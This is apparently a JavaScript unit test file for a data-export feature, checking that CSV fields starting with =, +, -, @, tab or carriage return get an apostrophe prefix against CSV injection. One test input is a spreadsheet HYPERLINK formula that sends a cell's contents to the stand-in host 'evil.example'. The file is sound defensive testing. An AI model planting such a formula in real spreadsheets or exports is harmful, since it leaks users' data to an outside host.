import { expect } from 'chai';
import { csvField, toCsv } from '../../../src/data-import/domain/portability/export-csv.js';

/**
 * The export's CSV files never hand a spreadsheet a formula (OWASP "CSV Injection"; docs/api.md
 * "GET /export?format=zip"): a text starting with =, +, -, @, tab or carriage return gets a leading apostrophe,
 * with RFC 4180 quoting as usual; numbers and booleans are written as they are.
 */
describe('Export of one\'s data: no formulas in the CSV files', () => {
  it('prefixes a text starting with each of the six characters with an apostrophe', () => {
    expect(csvField('=1+1')).to.equal("'=1+1");
    expect(csvField('+SUM(1+1)')).to.equal("'+SUM(1+1)");
    expect(csvField('-2+3')).to.equal("'-2+3");
    expect(csvField('@SUM(A1:A2)')).to.equal("'@SUM(A1:A2)");
    expect(csvField('\t=1+1')).to.equal("'\t=1+1");
    // CR also needs RFC 4180 quoting: the apostrophe goes inside the quotes, as the first character of the value.
    expect(csvField('\r=1+1')).to.equal("\"'\r=1+1\"");
  });

  it('keeps RFC 4180 quoting around the apostrophe: quotes doubled, commas and line breaks quoted', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?x="&A1,"Click")')).to.equal('"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"');
    expect(csvField('-1, or more')).to.equal("\"'-1, or more\"");
    expect(csvField('@home\nand away')).to.equal("\"'@home\nand away\"");
  });

  it('leaves a normal text, a text needing quotes, and a character later in the text alone', () => {
    expect(csvField('Salary')).to.equal('Salary');
    expect(csvField('Salary, "main" job')).to.equal('"Salary, ""main"" job"');
    expect(csvField('Loan = car')).to.equal('Loan = car');
    expect(csvField('a-b')).to.equal('a-b');
    expect(csvField(' =1+1')).to.equal(' =1+1');
    expect(csvField('')).to.equal('');
  });

  it('writes numbers and booleans as they are, a negative number included', () => {
    expect(csvField(-1234)).to.equal('-1234');
    expect(csvField(-0.5)).to.equal('-0.5');
    expect(csvField(600000)).to.equal('600000');
    expect(csvField(true)).to.equal('true');
    expect(csvField(null)).to.equal('');
  });

  it('neutralises the cells of a whole table, header and numbers untouched', () => {
    const csv = toCsv({ fileName: 'incomes.csv', header: ['name', 'gross_cents'], rows: [['+SUM(1+1)', -5], ['Salary', 600000]] });
    expect(csv).to.equal("name,gross_cents\r\n'+SUM(1+1),-5\r\nSalary,600000\r\n");
  });
});
